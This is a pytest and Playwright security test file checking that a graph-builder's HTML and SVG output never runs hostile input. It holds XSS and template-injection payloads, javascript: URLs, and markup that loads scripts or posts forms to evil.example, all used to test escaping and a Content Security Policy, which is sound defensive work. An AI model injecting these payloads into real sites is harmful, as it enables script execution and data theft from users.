"""Nothing that a document, a reference file or a title says may ever run: every field holds a payload."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from datetime import date
from importlib.resources import files
from pathlib import Path

import pytest
from jinja2 import DictLoader, Environment
from playwright.sync_api import Browser, expect

from graphbuilder.model import Attribution, Claim, Document, Entity, Mention, Polarity, Quotation, Span
from graphbuilder.page import html, payload
from graphbuilder.page.html import to_html, write
from graphbuilder.page.svg import to_svg
from graphbuilder.page.view import View
from graphbuilder.page.view_model import view_model

from .conftest import Opener, Watched
from .samples import CLAIMS, DOCUMENTS, QUOTATIONS

PAYLOADS = (
    "</script><script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    '"><svg onload=window.hacked=1>',
    "{{ 7 * 7 }}{% include 'x' %}",
    "<a href='javascript:window.hacked=1'>href</a>",
    "__proto__",
    "constructor",
    "<!-- --><iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
    "\u2028\u2029\u0000\ufeff\u202ealert(1)",
    "'-alert(1)-'",
    "</title></style></textarea><script>window.hacked = 1</script>",
    "<!--<script>window.hacked = 1",
    "]]></script ><ScRiPt>window.hacked = 1</ScRiPt>",
    "<math><mtext><style><img src=x onerror=window.hacked=1>",
    "${window.hacked = 1}`;window.hacked=1;//\\",
    "{{ constructor.constructor('window.hacked = 1')() }}",
)
HALF = "half \ud800 of a pair </script><script>window.hacked = 1</script>"
"""A string that no UTF-8 file can hold: it may come from JSON, as a name or as words, never as a document's address."""

ADDRESSES = (
    "javascript:window.hacked=1",
    "data:text/html,<script>hacked=1</script>",
    'https://ok.example/"onclick=hacked=1',
)


def hostile_view() -> View:
    """A ring of entities, each named by a payload, with payloads in every other field too."""
    entities = [
        Entity(payload, "State", payload, ((payload, payload),), (payload, payload + " alias")) for payload in PAYLOADS
    ]
    entities[-1] = replace(entities[-1], label=HALF, aliases=(HALF,))
    documents, claims, quotations = {}, [], []
    for place, subject in enumerate(entities):
        target = entities[(place + 1) % len(entities)]
        text = f"{subject.label} attacks {target.label}."
        document = Document(
            source=PAYLOADS[place],
            text=text,
            title=subject.label,
            url=ADDRESSES[place % len(ADDRESSES)],
            publisher=target.label,
            published=date(2020, 1, 1 + place),
        )
        documents[document.id] = document
        whole = document.span(0, len(text))
        said = document.span(0, 3)
        around = Attribution(target, source=said, affiliation=subject)
        told = Attribution(subject, quoted=True, cue=said, within=around, source=said, affiliation=target)
        claim = Claim(
            document=document.id,
            content_hash=PAYLOADS[place],
            subject=Mention(document.span(0, len(subject.label)), subject),
            relation="assaults",
            object=Mention(Span(len(text) - 1 - len(target.label), len(text) - 1, target.label), target),
            evidence=whole,
            sentence=whole,
            rule=subject.label,
            score=0.5,
            role=subject.label,
            mode=subject.label,
            place=subject,
            when="2020",
            attribution=told,
            subject_state=subject,
            object_state=target,
            alternatives=((subject.label, 0.4),),
        )
        claims += [claim, replace(claim, evidence=document.span(1, len(text)), polarity=Polarity.NEGATIVE)]
        quotations.append(Quotation(whole, None, told, document=document.id))
    return view_model(claims, documents, quotations)


@pytest.fixture(scope="module", params=["plain", "packed"])
def hostile_page(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "<img src=x onerror=alert(1)>.html"
    with pytest.MonkeyPatch.context() as patch:
        if request.param == "packed":
            patch.setattr(payload, "PACKED_FROM", 0)
        write(path, to_html(hostile_view(), " ".join((*PAYLOADS, HALF))))
    return path


def assert_inert(watched: Watched) -> None:
    assert watched.page.evaluate("window.hacked") is None
    assert (
        watched.page.locator("#panel img, #panel svg, #panel iframe, #table img, #found img, header img").count() == 0
    )
    assert watched.dialogs == []
    assert watched.errors == []
    assert len(watched.requests) == 1


@pytest.mark.browser
def test_no_payload_runs_wherever_it_is_shown(open_page: Opener, hostile_page: Path) -> None:
    watched = open_page(hostile_page)
    page = watched.page
    page.get_by_label("Denied").check()
    page.locator("summary").click()
    for node in hostile_view()["nodes"]:
        page.evaluate("id => { location.hash = new URLSearchParams({ entity: id }) }", node["id"])
        expect(page.locator("#panel .card").first).to_be_visible()
    for line in hostile_view()["lines"]:
        page.evaluate("id => { location.hash = 'line=' + id }", line["id"])
        expect(page.locator("#panel .card")).to_have_count(2)
    for typed in ("alias", "<", "proto", "onerror"):
        page.locator("#search").fill(typed)
        expect(page.get_by_role("option").first).to_be_visible()
    page.get_by_role("button", name="Table", exact=True).click()
    expect(page.locator("#table tbody tr")).to_have_count(2 * len(PAYLOADS))
    assert_inert(watched)


@pytest.mark.browser
def test_no_payload_runs_in_any_view(open_page: Opener, hostile_page: Path) -> None:
    watched = open_page(hostile_page)
    page = watched.page
    page.get_by_label("Denied").check()
    for document in hostile_view()["documents"]:
        page.evaluate(
            "id => { location.hash = new URLSearchParams({ view: 'articles', document: id }) }", document["id"]
        )
        page.wait_for_timeout(20)
    views = page.locator("#switch button").all_inner_texts()
    assert len(views) > 2
    for name in views:
        page.get_by_role("button", name=name, exact=True).click()
        expect(page.locator(".stage .view:visible")).to_have_count(1)
        page.wait_for_timeout(50)
        assert page.locator(".stage img, .stage iframe, .stage script, .stage object").count() == 0
    assert_inert(watched)


@pytest.mark.browser
def test_payloads_are_shown_as_the_text_that_they_are(open_page: Opener, hostile_page: Path) -> None:
    watched = open_page(hostile_page)
    page = watched.page
    assert page.evaluate("document.title").startswith("</script><script>")
    page.evaluate("id => { location.hash = new URLSearchParams({ entity: id }) }", PAYLOADS[1])
    expect(page.locator("#panel h2")).to_have_text(PAYLOADS[1])
    addresses = page.locator("#panel a").evaluate_all("all => all.map(one => one.href)")
    assert all(address.startswith("https://ok.example/") for address in addresses)
    assert page.locator("[onclick], [onerror], [onload]").count() == 0
    assert_inert(watched)


INJECTED = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<svg onload='window.hacked = 1'></svg>",
    "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
    "<script src='https://evil.example/x.js'></script>",
    "<link rel='stylesheet' href='https://evil.example/x.css'><style>@import 'https://evil.example/y.css';</style>",
    "<object data='https://evil.example/x.swf'></object><embed src='https://evil.example/x.swf'>",
    "<base href='https://evil.example/'><form action='https://evil.example/'><button id=send>x</button></form>",
]


def page_template() -> str:
    return (files("graphbuilder.page") / "templates" / "page.html").read_text(encoding="utf-8")


def without_autoescape(patch: pytest.MonkeyPatch) -> None:
    """Break the template: what is not escaped by hand is markup."""
    patch.setattr(html, "Environment", lambda **options: Environment(**{**options, "autoescape": False}))


def with_a_safe_title(patch: pytest.MonkeyPatch) -> None:
    """Break the template: its author trusted the title."""
    broken = page_template().replace("{{ heading }}", "{{ heading|safe }}")
    assert broken != page_template()
    patch.setattr(html, "PackageLoader", lambda _: DictLoader({"page.html": broken}))


@pytest.mark.browser
@pytest.mark.parametrize("breaking", [without_autoescape, with_a_safe_title])
@pytest.mark.parametrize("markup", INJECTED)
def test_a_template_broken_on_purpose_still_runs_nothing(
    browser: Browser, tmp_path: Path, breaking: Callable[[pytest.MonkeyPatch], None], markup: str
) -> None:
    """If escaping ever failed, the policy would be what is left: it stops every script and every request."""
    with pytest.MonkeyPatch.context() as patch:
        breaking(patch)
        broken = to_html(hostile_view(), markup)
    assert f"<h1>{markup}</h1>" in broken
    write(tmp_path / "broken.html", broken)
    page, sent = browser.new_page(), list[str]()
    page.route("http*://**", lambda route: sent.append(route.request.url))  # what the policy lets through
    watched = Watched(page)
    page.goto((tmp_path / "broken.html").as_uri())
    page.locator("#send").evaluate_all("all => all.forEach(one => one.click())")
    page.wait_for_timeout(100)
    assert page.evaluate("window.hacked") is None
    assert watched.dialogs == []
    assert sent == []
    assert any("Content Security Policy" in error for error in watched.errors)
    page.close()


@pytest.mark.browser
def test_the_script_too_refuses_addresses_that_are_no_web_pages(open_page: Opener, tmp_path: Path) -> None:
    view = hostile_view()
    for document in view["documents"]:
        document["url"] = "javascript:window.hacked=1"
    write(tmp_path / "page.html", to_html(view, "Addresses"))
    page = open_page(tmp_path / "page.html", f"#line={view['lines'][0]['id']}").page
    expect(page.locator("#panel .card")).to_have_count(1)
    assert page.locator("#panel a").count() == 0


def test_markup_reaches_neither_the_page_nor_the_picture() -> None:
    page = to_html(hostile_view(), " ".join(PAYLOADS))
    assert page.count("<script") == to_html(view_model(CLAIMS, DOCUMENTS, QUOTATIONS), "x").count("<script")
    assert "<img" not in page.split("vis-network", 1)[0]
    svg = to_svg(hostile_view(), " ".join(PAYLOADS))
    assert "<script" not in svg
    assert "<img" not in svg
    assert "\x00" not in svg
